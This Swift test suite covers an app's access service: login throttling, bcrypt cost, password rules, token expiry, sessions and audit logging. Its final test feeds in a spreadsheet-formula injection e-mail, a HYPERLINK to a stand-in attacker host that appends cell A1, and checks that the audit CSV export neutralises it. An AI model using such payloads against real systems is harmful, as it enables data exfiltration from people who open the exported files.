import Foundation
import KizashiApp
import KizashiCore
import KizashiStore
import Testing

/// A clock a test moves by hand.
final class ManualClock: @unchecked Sendable {
    private let lock = NSLock()
    private var ms: Int64
    init(_ start: Instant) { ms = start.millisecondsSinceEpoch }
    var now: Instant { lock.withLock { Instant(millisecondsSinceEpoch: ms) } }
    func advance(seconds: Int64) { lock.withLock { ms += seconds * 1000 } }
}

/// Counts what the password hasher is asked to do; "hashes" are the password reversed.
final class CountingHasher: PasswordHashing, @unchecked Sendable {
    private let lock = NSLock()
    private(set) var verifications = 0
    private(set) var dummyVerifications = 0
    func hash(_ password: String) async -> String { "fake$" + String(password.reversed()) }
    func verify(_ password: String, against hash: String) async -> Bool {
        lock.withLock { verifications += 1 }
        return hash == "fake$" + String(password.reversed())
    }
    func spendVerification(_ password: String) async { lock.withLock { dummyVerifications += 1 } }
}

enum AccessFixture {
    static let t0 = Instant(millisecondsSinceEpoch: 1_790_737_200_000)  // 2026-09-30T03:00:00Z
    static let password = "correct horse battery"

    static func store() async throws -> SQLiteWorkspaceStore {
        try await SQLiteWorkspaceStore.open(path: Fixture.temporaryDirectory() + "/w.sqlite")
    }
}

@Suite("Access service: users, logins, tokens, audit")
struct AccessServiceTests {
    @Test("an unknown e-mail costs one verification at the configured cost, like a known one (user enumeration)")
    func unknownEmailTiming() async throws {
        // Timing is not asserted (this machine is noisy; speed belongs in benchmarks): the cost is.
        // Before the fix the unknown e-mail was checked against a cost-4 hash: 2^(10−4) = 64 times
        // fewer rounds than a real account's cost-10 hash, which a client can time.
        let store = try await AccessFixture.store()
        defer { Task { try? await store.close() } }
        let hasher = BcryptPasswordHasher(cost: 10)
        let access = AccessService(store: store, passwords: hasher)
        let user = try await access.createUser(
            email: "known@example.com", role: .viewer, password: AccessFixture.password)
        #expect(BcryptPasswordHasher.cost(of: user.passwordHash) == 10)
        #expect(try await access.verify(email: "nobody@example.com", password: "wrong password!") == .unknownEmail)
        #expect(try await access.verify(email: "nobody2@example.com", password: "wrong password!") == .unknownEmail)
        #expect(hasher.comparisonCost == 10)
    }

    @Test("new hashes have the configured cost; costs bcrypt would trap on are clamped")
    func dummyCost() async throws {
        let hasher = BcryptPasswordHasher(cost: 5)
        #expect(BcryptPasswordHasher.cost(of: await hasher.hash("x")) == 5)
        // Out-of-range costs are clamped instead of trapping inside bcrypt.
        #expect(BcryptPasswordHasher(cost: 2).cost == 4)
        #expect(BcryptPasswordHasher(cost: 40).cost == 16)
    }

    @Test("a login reserves before it checks: 20 parallel wrong passwords make at most 5 checks")
    func parallelLogins() async throws {
        let store = try await AccessFixture.store()
        defer { Task { try? await store.close() } }
        let hasher = CountingHasher()
        let access = AccessService(store: store, passwords: hasher, now: { AccessFixture.t0 })
        _ = try await access.createUser(email: "admin@example.com", role: .admin, password: AccessFixture.password)
        let outcomes = await withTaskGroup(of: String.self) { group in
            for _ in 0..<20 {
                group.addTask {
                    switch try? await access.login(
                        email: "admin@example.com", password: "guess guess guess", clientAddress: "198.51.100.7")
                    {
                    case .refused: "refused"
                    case .throttled: "throttled"
                    case .signedIn: "signed in"
                    case nil: "error"
                    }
                }
            }
            return await group.reduce(into: [String: Int]()) { $0[$1, default: 0] += 1 }
        }
        #expect(outcomes == ["refused": 5, "throttled": 15])
        #expect(hasher.verifications == 5)
        let failed = try await store.auditEntries(before: nil, limit: 100).filter { $0.action == "login.failed" }
        #expect(failed.count == 5)
        #expect(failed.allSatisfy { $0.clientAddress == "198.51.100.7" && $0.detail == "wrong password" })
    }

    @Test("a disabled user is refused even with the right password, and audited as such")
    func disabledLogin() async throws {
        let store = try await AccessFixture.store()
        defer { Task { try? await store.close() } }
        let access = AccessService(store: store, passwords: CountingHasher(), now: { AccessFixture.t0 })
        _ = try await access.createUser(email: "admin@example.com", role: .admin, password: AccessFixture.password)
        let v = try await access.createUser(email: "v@example.com", role: .viewer, password: AccessFixture.password)
        guard
            case .signedIn(_, let cookie, _) = try await access.login(
                email: "v@example.com", password: AccessFixture.password, clientAddress: "198.51.100.7")
        else { Issue.record("no login"); return }
        #expect(try await access.signedIn(cookie: cookie)?.user.email == "v@example.com")
        try await access.disableUser(id: v.id, actor: AuditActor(name: "admin@example.com", clientAddress: "192.0.2.1"))
        #expect(try await access.signedIn(cookie: cookie) == nil)
        let again = try await access.login(
            email: "v@example.com", password: AccessFixture.password, clientAddress: "198.51.100.7")
        guard case .refused = again else { Issue.record("a disabled user signed in"); return }
        try await access.enableUser(id: v.id, actor: .commandLine)
        // The old session stays ended; a new login works.
        #expect(try await access.signedIn(cookie: cookie) == nil)
        guard
            case .signedIn = try await access.login(
                email: "v@example.com", password: AccessFixture.password, clientAddress: "198.51.100.7")
        else { Issue.record("no login after enable"); return }
        let log = try await access.audit.entries().map {
            "\($0.actor) \($0.action) \($0.target ?? "") \($0.detail ?? "")"
        }
        #expect(
            log == [
                "v@example.com login v@example.com ",
                "cli user.enable v@example.com ",
                "v@example.com login.failed v@example.com user disabled",
                "admin@example.com user.disable v@example.com ",
                "v@example.com login v@example.com ",
                "cli user.create v@example.com role viewer",
                "cli user.create admin@example.com role admin",
            ])
    }

    @Test("resetting a password: the old one stops working, the new one works, sessions end")
    func resetPassword() async throws {
        let store = try await AccessFixture.store()
        defer { Task { try? await store.close() } }
        let access = AccessService(store: store, passwords: CountingHasher(), now: { AccessFixture.t0 })
        let u = try await access.createUser(email: "e@example.com", role: .editor, password: AccessFixture.password)
        let (cookie, _) = try await access.startSession(for: u)
        await #expect(throws: AccessError.passwordTooShort(minimum: 10)) {
            try await access.resetPassword(id: u.id, to: "short", actor: .commandLine)
        }
        try await access.resetPassword(id: u.id, to: "a brand new secret", actor: .commandLine)
        #expect(try await access.signedIn(cookie: cookie) == nil)
        #expect(
            try await access.verify(email: "e@example.com", password: AccessFixture.password)
                == .wrongPassword(
                    try #require(try await store.user(id: u.id))))
        guard case .verified = try await access.verify(email: "e@example.com", password: "a brand new secret") else {
            Issue.record("new password refused"); return
        }
        await #expect(throws: AccessError.userNotFound) {
            try await access.resetPassword(id: 999, to: "a brand new secret", actor: .commandLine)
        }
    }

    @Test("passwords: at least 10 characters, at most 72 bytes (bcrypt's limit), no control characters")
    func passwordRules() throws {
        #expect(throws: AccessError.passwordTooShort(minimum: 10)) { try AccessService.checkPassword("nine char") }
        try AccessService.checkPassword("ten chars!")
        try AccessService.checkPassword(String(repeating: "a", count: 72))
        #expect(throws: AccessError.passwordTooLong(maximumBytes: 72)) {
            try AccessService.checkPassword(String(repeating: "a", count: 73))
        }
        // 24 × 3 bytes = 72 bytes: allowed; 25 × 3 = 75: refused.
        try AccessService.checkPassword(String(repeating: "あ", count: 24))
        #expect(throws: AccessError.passwordTooLong(maximumBytes: 72)) {
            try AccessService.checkPassword(String(repeating: "あ", count: 25))
        }
        #expect(throws: AccessError.passwordHasControlCharacters) {
            try AccessService.checkPassword("abc\u{0}defghijk")
        }
    }

    @Test("a token's expiry comes from its lifetime; it is refused from that instant on")
    func tokenExpiry() async throws {
        let store = try await AccessFixture.store()
        defer { Task { try? await store.close() } }
        let clock = ManualClock(AccessFixture.t0)
        let access = AccessService(store: store, passwords: CountingHasher(), now: { clock.now })
        let (secret, token) = try await access.createToken(
            name: "ci", role: .editor, now: clock.now, expiresIn: try TokenLifetime("90d"), actor: .commandLine)
        // 1,790,737,200,000 + 90 × 86,400,000 = 1,798,513,200,000.
        #expect(token.expiresAt?.millisecondsSinceEpoch == 1_798_513_200_000)
        clock.advance(seconds: 90 * 86_400 - 1)
        #expect(try await access.identity(bearer: secret)?.id == token.id)
        clock.advance(seconds: 1)
        #expect(try await access.identity(bearer: secret) == nil)
        let entry = try #require(try await access.audit.entries().first)
        #expect(entry.action == "token.create" && entry.detail == "role editor, expires in 90d")
    }

    @Test("a token's last use is written at most once a minute, not once per request")
    func tokenLastUse() async throws {
        let store = try await AccessFixture.store()
        defer { Task { try? await store.close() } }
        let clock = ManualClock(AccessFixture.t0)
        let access = AccessService(store: store, passwords: CountingHasher(), now: { clock.now })
        let (secret, token) = try await access.createToken(name: "bi", role: .viewer, now: clock.now)
        func lastUsed() async throws -> Instant? {
            // The write happens off the request path: wait for it (at most 2 s).
            for _ in 0..<40 {
                if let t = try await store.tokens().first(where: { $0.id == token.id })?.lastUsedAt { return t }
                try await Task.sleep(for: .milliseconds(50))
            }
            return nil
        }
        // 50 requests at once: one write.
        await withTaskGroup(of: Void.self) { g in
            for _ in 0..<50 { g.addTask { _ = try? await access.identity(bearer: secret) } }
        }
        #expect(try await lastUsed() == AccessFixture.t0)
        // 30 s later: not written (the stored use is 30 s old).
        clock.advance(seconds: 30)
        _ = try await access.identity(bearer: secret)
        try await Task.sleep(for: .milliseconds(200))
        #expect(try await lastUsed() == AccessFixture.t0)
        // 61 s after the first: written.
        clock.advance(seconds: 31)
        _ = try await access.identity(bearer: secret)
        var seen: Instant?
        for _ in 0..<40 where seen != clock.now {
            seen = try await lastUsed()
            if seen != clock.now { try await Task.sleep(for: .milliseconds(50)) }
        }
        #expect(seen?.millisecondsSinceEpoch == AccessFixture.t0.millisecondsSinceEpoch + 61_000)
    }

    @Test("the audit CSV neutralises formulas an attacker typed as an e-mail")
    func auditCSV() async throws {
        let store = try await AccessFixture.store()
        defer { Task { try? await store.close() } }
        let access = AccessService(store: store, passwords: CountingHasher(), now: { AccessFixture.t0 })
        _ = try await access.login(
            email: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", password: "whatever it is",
            clientAddress: "203.0.113.5")
        let entries = try await access.audit.entries()
        #expect(entries.count == 1)
        // Each text cell starts with ' when it would be a formula; quotes doubled inside a quoted field.
        let expected =
            "\(entries[0].id),2026-09-30T03:00:00.000Z,"
            + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",login.failed,"
            + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",203.0.113.5,unknown e-mail\n"
        #expect(AuditLogCSV.rows(entries) == expected)
    }
}
